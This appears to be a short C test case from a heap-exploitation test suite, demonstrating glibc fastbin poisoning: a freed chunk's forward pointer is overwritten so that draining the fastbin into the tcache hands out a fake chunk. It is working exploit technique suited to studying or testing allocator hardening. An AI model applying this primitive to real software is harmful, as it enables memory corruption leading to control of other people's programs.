/* expect: exit 0
 * A fastbin chunk's fd pointed at a fake chunk with a matching size: the fake chunk is moved into the
 * tcache when the fastbin is drained (no size check on that path) and handed out next. */
#include "attack.h"

int main(void)
{
	attack_begin();
	char *a = malloc(40);
	fill_tcache(40);
	show("a", a);
	free(a);
	fake_area[1] = 0x31;                         /* fake chunk: size 0x30 */
	fake_area[2] = protect(&fake_area[2], NULL); /* its fd: end of list */
	*(uintptr_t *)a = protect(a, &fake_area[0]);
	empty_tcache(40);
	attack_staged("malloc(40) drains the poisoned fastbin");
	show("first malloc(40)", malloc(40));
	show("second malloc(40)", malloc(40));
	return 0;
}
